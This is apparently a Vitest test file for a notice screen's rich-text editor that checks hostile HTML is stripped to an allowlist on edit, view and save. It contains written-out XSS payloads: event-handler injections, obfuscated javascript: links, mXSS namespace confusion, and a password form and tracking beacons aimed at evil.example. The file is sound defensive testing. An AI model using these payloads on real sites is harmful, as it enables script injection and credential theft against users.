// The notice screen (pages/desk/notice.json) opening a notice whose content someone wrote to attack whoever reads it:
// the rich-text editor shows the headings, lists, links, tables and our own pictures, and nothing of the attack
// becomes an element — no handler, no frame, no script, no form, no picture from another site — in edit or view, and
// what the editor sends back is kept to the same allowlist.
import { fireEvent, render, screen, waitFor, within } from '@testing-library/react';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import notice from '../../pages/desk/notice.json';
import { clearDictionaries, setPermissions } from '../../runtime/index';
import { DefinitionScreen } from '../../runtime/page/DefinitionPage';
import { fakeServer, Providers, pageOf } from './support';

const OWN_PICTURE = '/api/blade-resource/oss/file/20260301-0123456789abcdef0123456789abcdef.png';

const HOSTILE = [
  '<h2>停车须知</h2>',
  '<img src=x onerror="window.__ran=1">',
  '<svg onload="window.__ran=1"><circle r="1"/></svg>',
  '<a href="javascript:window.__ran=1">点此领取</a>',
  '<a href="java&#x09;script:window.__ran=1">再点</a>',
  '<a href="&#106;avascript:window.__ran=1">还点</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal"><input name="password"><button>登录</button></form>',
  '<style>body{background:url(https://evil.example/seen)}</style>',
  '<img src="https://tracker.example/pixel.gif">',
  '<p style="position:fixed;inset:0" onclick="window.__ran=1">正文<b>加粗</b></p>',
  '<ul><li>第一条</li><li>第二条</li></ul>',
  '<a href="https://ride.example/rules">租赁规则</a>',
  '<table><tbody><tr><td colspan="2">押金</td></tr></tbody></table>',
  `<img src="${OWN_PICTURE}" alt="站点照片">`,
  // Namespace confusion (mXSS): last, as the parser keeps everything after an unclosed <math> inside it.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__ran=1&gt;">',
].join('');

const row = { id: '7', title: '关于停车', category: 1, releaseTime: '2026-03-01 09:00:00', content: HOSTILE };

let server: ReturnType<typeof fakeServer>;

beforeAll(() => {
  clearDictionaries();
  setPermissions(['notice_add', 'notice_edit', 'notice_view', 'notice_delete']);
});

beforeEach(() => {
  server = fakeServer({
    'GET /api/blade-desk/notice/list': ({ query }) => pageOf([row], query),
    'GET /api/blade-desk/notice/detail': () => row,
    'GET /api/blade-desk/notice/fields': () => ({}),
    'GET /api/blade-system/dict/dictionary': () => [{ dictKey: '1', dictValue: '发布通知' }],
    'POST /api/blade-desk/notice/submit': () => true,
  });
});

/** Opens the notice by the row button named `action` and answers the editor once it shows the notice. */
async function openNotice(action: RegExp): Promise<{ dialog: HTMLElement; editor: HTMLElement }> {
  render(
    <Providers provider={server.provider}>
      <DefinitionScreen definition={notice} file="pages/desk/notice.json" />
    </Providers>,
  );
  const line = (await screen.findByText('关于停车')).closest('tr') as HTMLElement;
  const button = within(line)
    .getAllByText(action)
    .map((node) => node.closest('button'))
    .find((node) => node !== null);
  fireEvent.click(button as HTMLButtonElement);
  const dialog = await screen.findByRole('dialog', {}, { timeout: 15000 });
  const editor = await waitFor(
    () => {
      const found = dialog.querySelector<HTMLElement>('[role="textbox"][aria-multiline]');
      expect(found?.textContent).toContain('停车须知');
      return found as HTMLElement;
    },
    { timeout: 15000 },
  );
  return { dialog, editor };
}

/** Everything of the attack that would be live in the page if the value had been drawn as it came. */
function attackIn(editor: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of editor.querySelectorAll('*')) {
    const name = element.nodeName.toLowerCase();
    if (['script', 'iframe', 'svg', 'math', 'style', 'form', 'input', 'button', 'object', 'embed'].includes(name))
      found.push(name);
    for (const attribute of element.attributes) {
      if (/^on/i.test(attribute.name) || attribute.name === 'style') found.push(`${name}[${attribute.name}]`);
      if (attribute.name === 'href' && !/^https?:\/\//.test(attribute.value)) found.push(`a[href=${attribute.value}]`);
      if (attribute.name === 'src' && attribute.value !== OWN_PICTURE) found.push(`${name}[src=${attribute.value}]`);
    }
  }
  return found;
}

/** What the notice still says and shows, as a reader sees it. */
function keptIn(editor: HTMLElement) {
  return {
    heading: editor.querySelector('h2')?.textContent,
    bold: editor.querySelector('p b')?.textContent,
    items: [...editor.querySelectorAll('ul li')].map((item) => item.textContent),
    link: [editor.querySelector('a[href]')?.getAttribute('href'), editor.querySelector('a[href]')?.getAttribute('rel')],
    cell: [editor.querySelector('td')?.textContent, editor.querySelector('td')?.getAttribute('colspan')],
    pictures: [...editor.querySelectorAll('img')].map((picture) => picture.getAttribute('src')),
  };
}

const EXPECTED = {
  heading: '停车须知',
  bold: '加粗',
  items: ['第一条', '第二条'],
  link: ['https://ride.example/rules', 'noopener noreferrer'],
  cell: ['押金', '2'],
  pictures: [OWN_PICTURE],
};

describe('a hostile notice in the rich-text editor', () => {
  it('is edited with what the allowlist keeps and nothing of the attack as an element', async () => {
    const { editor } = await openNotice(/^编\s*辑$/);
    expect(server.calls.some((call) => call.path.endsWith('/notice/detail'))).toBe(true);
    expect(attackIn(editor)).toEqual([]);
    expect(keptIn(editor)).toEqual(EXPECTED);
    expect(editor.textContent).not.toContain('window.__ran');
    expect((window as { __ran?: number }).__ran).toBeUndefined();
  });

  it('is viewed read-only the same way', async () => {
    const { editor } = await openNotice(/^查\s*看$/);
    expect(editor.getAttribute('contenteditable')).toBe('false');
    expect(attackIn(editor)).toEqual([]);
    expect(keptIn(editor)).toEqual(EXPECTED);
  });

  it('sends back only what the allowlist keeps, even when the browser put more into the editor', async () => {
    const { dialog, editor } = await openNotice(/^编\s*辑$/);
    // What a drop from another page leaves in a contentEditable area, beside the person's own typing.
    const dropped = document.createElement('p');
    dropped.setAttribute('onmouseover', 'window.__ran=1');
    dropped.append('补充说明');
    const tracker = document.createElement('img');
    tracker.setAttribute('src', 'https://tracker.example/seen.gif');
    editor.append(dropped, tracker);
    fireEvent.input(editor);
    const save = within(dialog)
      .getAllByText(/^保\s*存$/)
      .map((node) => node.closest('button'))
      .find((node) => node !== null);
    fireEvent.click(save as HTMLButtonElement);
    await screen.findByText('更新成功');
    const submitted = server.calls.find((call) => call.path.endsWith('/submit'))?.body as { content?: string };
    const sent = String(submitted?.content);
    expect(sent).toContain('<p>补充说明</p>');
    expect(sent).toContain(`<img src="${OWN_PICTURE}" alt="站点照片">`);
    expect(sent).not.toMatch(/onmouseover|onerror|onload|tracker\.example|javascript|<iframe|<form|<style|<svg|<math/i);
  });
});
